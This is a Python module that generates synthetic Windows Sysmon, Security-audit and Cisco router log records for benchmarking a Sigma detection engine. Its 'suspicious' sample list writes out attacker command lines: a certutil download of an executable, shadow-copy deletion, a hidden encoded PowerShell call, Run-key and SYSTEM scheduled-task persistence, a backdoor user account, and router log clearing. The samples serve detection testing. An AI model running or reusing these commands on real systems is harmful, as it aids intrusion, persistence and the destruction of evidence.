"""Made log records for measurements: Windows process and file events, raw text, Cisco commands. All from one seed.

The shapes follow those that RSigma publishes figures for (timescale/rsigma, BENCHMARKS.md): the same kinds of records,
the same share of suspicious ones (2 % structured, 10 % raw text); the values are our own.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable

PROGRAMS = [
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe -RegisterDevice -SettingChange"),
    (r"C:\Program Files\Mozilla Firefox\firefox.exe", r'"C:\Program Files\Mozilla Firefox\firefox.exe" -contentproc'),
    (r"C:\Windows\System32\conhost.exe", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
    (r"C:\Program Files\PACS\viewer.exe", r'"C:\Program Files\PACS\viewer.exe" /study 1.2.840.113619'),
    (r"C:\Windows\System32\SearchIndexer.exe", r"C:\Windows\system32\SearchIndexer.exe /Embedding"),
    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE"),
]
SUSPICIOUS = [
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAo"),
    (
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\Users\Public\a.exe",
    ),
    (
        r"C:\Windows\System32\reg.exe",
        r"reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v u /d C:\Users\Public\u.exe",
    ),
    (r"C:\Windows\System32\net.exe", "net user helper Winter2026 /add"),
    (r"C:\Windows\System32\wbem\WMIC.exe", r"wmic process call create C:\Users\Public\b.bat"),
    (r"C:\Windows\System32\schtasks.exe", r"schtasks /create /tn Up /tr C:\Users\Public\u.exe /sc onlogon /ru SYSTEM"),
]
PARENTS = [r"C:\Windows\System32\services.exe", r"C:\Windows\explorer.exe", r"C:\Windows\System32\cmd.exe"]
USERS = [r"NT AUTHORITY\SYSTEM", r"HOSP\m.durand", r"HOSP\svc-backup", r"NT AUTHORITY\NETWORK SERVICE"]
HOSTS = ["ws-0042", "ws-1187", "srv-pacs01", "srv-dc01", "ws-icu-3"]
FILES = [r"C:\Users\u\Documents\report.docx", r"C:\Users\u\AppData\Local\Temp\inst.log", r"C:\PACS\cache\1.dcm"]
BAD_FILES = [r"C:\Users\u\Downloads\invoice.pdf.exe", r"C:\Users\Public\payload.exe", r"C:\Windows\Temp\svch0st.exe"]
COMMANDS = ["show version", "show ip interface brief", "ping 10.20.30.1 repeat 5", "show vlan brief", "show clock"]
BAD_COMMANDS = ["clear logging", "no logging console", "show running-config", "crypto key generate rsa modulus 2048"]


def _hex(rng: random.Random, digits: int) -> str:
    return f"{rng.getrandbits(4 * digits):0{digits}x}"


def structured(rng: random.Random, unique: str, bad: float | None) -> dict[str, object]:
    """A process start as Sysmon tells it; `unique` goes into its command line."""
    image, line = rng.choice(SUSPICIOUS if rng.random() < (0.02 if bad is None else bad) else PROGRAMS)
    return {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": rng.choice(HOSTS),
        "UtcTime": f"2026-07-28 11:{rng.randrange(60):02d}:{rng.randrange(60):02d}.{rng.randrange(1000):03d}",
        "ProcessGuid": f"{_hex(rng, 8)}-{_hex(rng, 4)}-{_hex(rng, 4)}-{_hex(rng, 12)}",
        "ProcessId": rng.randrange(1000, 65000),
        "Image": image,
        "OriginalFileName": image.rsplit("\\", 1)[-1],
        "CommandLine": line + unique,
        "CurrentDirectory": "C:\\Windows\\system32\\",
        "User": rng.choice(USERS),
        "LogonId": f"0x{_hex(rng, 5)}",
        "IntegrityLevel": rng.choice(["Medium", "High", "System"]),
        "Hashes": f"SHA256={_hex(rng, 64).upper()}",
        "ParentProcessId": rng.randrange(1000, 65000),
        "ParentImage": rng.choice(PARENTS),
        "ParentCommandLine": rng.choice(PROGRAMS)[1] + unique,
    }


def file_event(rng: random.Random, unique: str, bad: float | None) -> dict[str, object]:
    """A file that was made, as Sysmon tells it."""
    return {
        "EventID": "11",
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": rng.choice(HOSTS),
        "Image": rng.choice(PROGRAMS)[0],
        "TargetFilename": rng.choice(BAD_FILES if rng.random() < (0.05 if bad is None else bad) else FILES) + unique,
        "CreationUtcTime": f"2026-01-15 10:{rng.randrange(60):02d}:{rng.randrange(60):02d}.{rng.randrange(1000):03d}",
        "ProcessGuid": f"{_hex(rng, 8)}-{_hex(rng, 4)}-{_hex(rng, 4)}-{_hex(rng, 12)}",
        "ProcessId": rng.randrange(1000, 65000),
    }


def raw_windows(rng: random.Random, unique: str, bad: float | None) -> dict[str, object]:
    """The text of a process start, as a collector forwards what it does not take apart."""
    image, line = rng.choice(SUSPICIOUS if rng.random() < (0.10 if bad is None else bad) else PROGRAMS)
    host = rng.choice(HOSTS)
    return {
        "message": f"<131>Jul 28 11:{rng.randrange(60):02d}:{rng.randrange(60):02d} {host} MSWinEventLog\t1\tSecurity"
        f"\t{rng.randrange(10**9)}\tTue Jul 28 11:28:00 2026\t4688\tMicrosoft-Windows-Security-Auditing\t-\\-"
        f"\tN/A\tSuccess Audit\t{host}\tProcess Creation\t\tA new process has been created.  Creator Subject:  Security"
        f" ID: {rng.choice(USERS)}  Account: {host}$  Logon ID: 0x{_hex(rng, 3)}  Process Information:  New Process"
        f" ID: 0x{_hex(rng, 4)}  New Process Name: {image}  Token Elevation Type: %%1936  Creator Process ID: "
        f"Creator Process Name: {rng.choice(PARENTS)}  Process Command Line: {line}{unique}",
        "product": "windows",
    }


def cisco(rng: random.Random, unique: str, bad: float | None) -> dict[str, object]:
    """A command typed on a router."""
    command = rng.choice(BAD_COMMANDS if rng.random() < (0.10 if bad is None else bad) else COMMANDS)
    return {
        "message": f"<189>Jan {rng.randrange(1, 29)} {rng.randrange(24):02d}:{rng.randrange(60):02d}:00 "
        f"core-sw0{rng.randrange(5)} %AAA-5-USER_LOGGED: User netadmin executed: {command}{unique}",
        "product": "cisco",
        "service": "aaa",
    }


LANES: dict[str, Callable[[random.Random, str, float | None], dict[str, object]]] = {
    "structured Windows": structured,
    "file events": file_event,
    "raw Windows text": raw_windows,
    "Cisco commands": cisco,
}


def lane(name: str, count: int, *, unique: bool = False, seed: int = 20261126, bad: float | None = None) -> bytes:
    """Return `count` records of lane `name` as NDJSON; `unique`: every command line, text or path is another one.

    `bad`: share of suspicious ones, that of the lane if left out.
    """
    rng = random.Random(seed)
    make = LANES[name]
    lines = [json.dumps(make(rng, f" {_hex(rng, 12)}" if unique else "", bad)) for _ in range(count)]
    return "\n".join(lines).encode() + b"\n"
